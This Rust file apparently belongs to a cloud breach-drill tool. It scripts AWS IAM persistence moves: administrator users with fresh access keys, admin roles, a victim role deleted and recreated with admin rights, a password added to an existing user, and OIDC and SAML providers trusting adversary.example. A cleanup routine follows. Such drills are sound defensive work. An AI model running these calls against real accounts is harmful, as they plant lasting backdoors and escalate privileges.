//! The moves by which the adversary makes itself what outlives the session: users, keys, roles, sessions, ways in.

use aws_credential_types::Credentials;
use aws_sdk_iam::operation::list_role_policies::ListRolePoliciesOutput;
use firebreak_model::finding::DRILL_PATH;
use serde_json::json;

use super::moves::{ADMINISTRATOR, Made, Target, Whose};
use crate::aws::{ACCOUNT, Aws};
use crate::thief::{Outcome, outcome};

impl Target {
    /// Makes a user of that name.
    pub async fn mint_user(&self, aws: &Aws, name: &str) -> Made {
        let made = outcome(aws.iam.create_user().user_name(name).path(DRILL_PATH).send().await);
        if made.is_stopped() {
            return made.into();
        }
        let attached = outcome(aws.iam.attach_user_policy().user_name(name).policy_arn(ADMINISTRATOR).send().await);
        if attached.is_stopped() {
            return attached.into();
        }
        match aws.iam.create_access_key().user_name(name).send().await {
            Ok(answer) => {
                let gained = answer.access_key().map(|key| {
                    let credentials =
                        Credentials::new(key.access_key_id(), key.secret_access_key(), None, None, "minted");
                    (Whose::Minted(name.to_owned()), credentials)
                });
                Made { outcome: Outcome::Succeeded, gained }
            }
            failed => outcome(failed).into(),
        }
    }

    pub(super) async fn mint_role(&self, aws: &Aws) -> Made {
        let name = self.minted_role();
        let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
            "Principal": {"AWS": format!("arn:aws:iam::{ACCOUNT}:root")}}]});
        let create = aws.iam.create_role().role_name(&name).path(DRILL_PATH);
        let made = outcome(create.assume_role_policy_document(trust.to_string()).send().await);
        if made.is_stopped() {
            return made.into();
        }
        outcome(aws.iam.attach_role_policy().role_name(&name).policy_arn(ADMINISTRATOR).send().await).into()
    }

    /// Assumes the role that was minted: it takes a while until it can be.
    pub async fn assume_minted(&self, aws: &Aws) -> Made {
        let arn = format!("arn:aws:iam::{ACCOUNT}:role{DRILL_PATH}{}", self.minted_role());
        assume(aws, &arn, Whose::MintedRole).await
    }

    /// Takes everything off the role, deletes it, and makes another under its name.
    pub(super) async fn recreate_role(&self, aws: &Aws) -> Made {
        let (iam, role) = (&aws.iam, &self.victim.role);
        let name = role.name.as_str();
        match iam.list_attached_role_policies().role_name(name).send().await {
            Ok(answer) => {
                for arn in answer.attached_policies().iter().filter_map(|policy| policy.policy_arn()) {
                    let detached = outcome(iam.detach_role_policy().role_name(name).policy_arn(arn).send().await);
                    if detached.is_stopped() {
                        return detached.into();
                    }
                }
            }
            failed => return outcome(failed).into(),
        }
        let inline = iam.list_role_policies().role_name(name).send().await;
        for policy in inline.iter().flat_map(ListRolePoliciesOutput::policy_names) {
            let deleted = outcome(iam.delete_role_policy().role_name(name).policy_name(policy).send().await);
            if deleted.is_stopped() {
                return deleted.into();
            }
        }
        let deleted = outcome(iam.delete_role().role_name(name).send().await);
        if deleted != Outcome::Succeeded {
            return deleted.into();
        }
        let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
            "Principal": {"AWS": format!("arn:aws:iam::{ACCOUNT}:root")}}]});
        let create = iam.create_role().role_name(name).path(DRILL_PATH);
        let made = outcome(create.assume_role_policy_document(trust.to_string()).send().await);
        if made != Outcome::Succeeded {
            return made.into();
        }
        outcome(iam.attach_role_policy().role_name(name).policy_arn(ADMINISTRATOR).send().await).into()
    }

    /// Assumes the role that was made again: it takes a while until it can be.
    pub async fn assume_again(&self, aws: &Aws) -> Made {
        assume(aws, &self.victim.role.arn, Whose::MadeAgain).await
    }

    /// Gives the user that was there a password.
    pub(super) async fn set_password(&self, aws: &Aws) -> Outcome {
        let password = format!("Not-A-Secret-{}", self.suffix);
        outcome(aws.iam.create_login_profile().user_name(&self.neighbour).password(password).send().await)
    }

    /// Has the account trust whoever holds a domain.
    pub(super) async fn trust_provider(&self, aws: &Aws) -> Outcome {
        let create = aws.iam.create_open_id_connect_provider().url(format!("https://{}", self.provider()));
        outcome(create.client_id_list("adversary").thumbprint_list("0".repeat(40)).send().await)
    }

    /// Has it trust whoever holds a certificate.
    pub(super) async fn trust_federation(&self, aws: &Aws) -> Outcome {
        let create = aws.iam.create_saml_provider().name(self.federation());
        outcome(create.saml_metadata_document(METADATA.repeat(4)).send().await)
    }

    fn provider(&self) -> String {
        format!("{}.adversary.example", self.suffix)
    }

    fn federation(&self) -> String {
        format!("federation-{}", self.suffix)
    }

    /// Takes away what was made of what had been there, as the operator. What is not there is no matter.
    pub(super) async fn clear_ways_in(&self, aws: &Aws) {
        let name = &self.neighbour;
        let _ = aws.iam.delete_login_profile().user_name(name).send().await;
        if let Ok(keys) = aws.iam.list_access_keys().user_name(name).send().await {
            for key in keys.access_key_metadata().iter().filter_map(|key| key.access_key_id()) {
                let _ = aws.iam.delete_access_key().user_name(name).access_key_id(key).send().await;
            }
        }
        let _ = aws.iam.delete_user_policy().user_name(name).policy_name("federates").send().await;
        let _ = aws.iam.delete_user().user_name(name).send().await;
        let provider = format!("arn:aws:iam::{ACCOUNT}:oidc-provider/{}", self.provider());
        let _ = aws.iam.delete_open_id_connect_provider().open_id_connect_provider_arn(provider).send().await;
        let federation = format!("arn:aws:iam::{ACCOUNT}:saml-provider/{}", self.federation());
        let _ = aws.iam.delete_saml_provider().saml_provider_arn(federation).send().await;
    }
}

/// A part of a SAML provider's document: a whole one has a thousand characters at the least.
const METADATA: &str = concat!(
    r#"<?xml version="1.0"?><EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" "#,
    r#"entityID="https://adversary.example"><IDPSSODescriptor protocolSupportEnumeration="#,
    r#""urn:oasis:names:tc:SAML:2.0:protocol"><SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:"#,
    r#"HTTP-Redirect" Location="https://adversary.example/sso"/></IDPSSODescriptor></EntityDescriptor>"#,
);

/// Assumes a role.
pub(super) async fn assume(aws: &Aws, arn: &str, as_whom: Whose) -> Made {
    match aws.sts.assume_role().role_arn(arn).role_session_name("adversary").send().await {
        Ok(answer) => {
            let gained = answer.credentials().map(|given| {
                let token = Some(given.session_token().to_owned());
                let credentials =
                    Credentials::new(given.access_key_id(), given.secret_access_key(), token, None, "chained");
                (as_whom, credentials)
            });
            Made { outcome: Outcome::Succeeded, gained }
        }
        failed => outcome(failed).into(),
    }
}
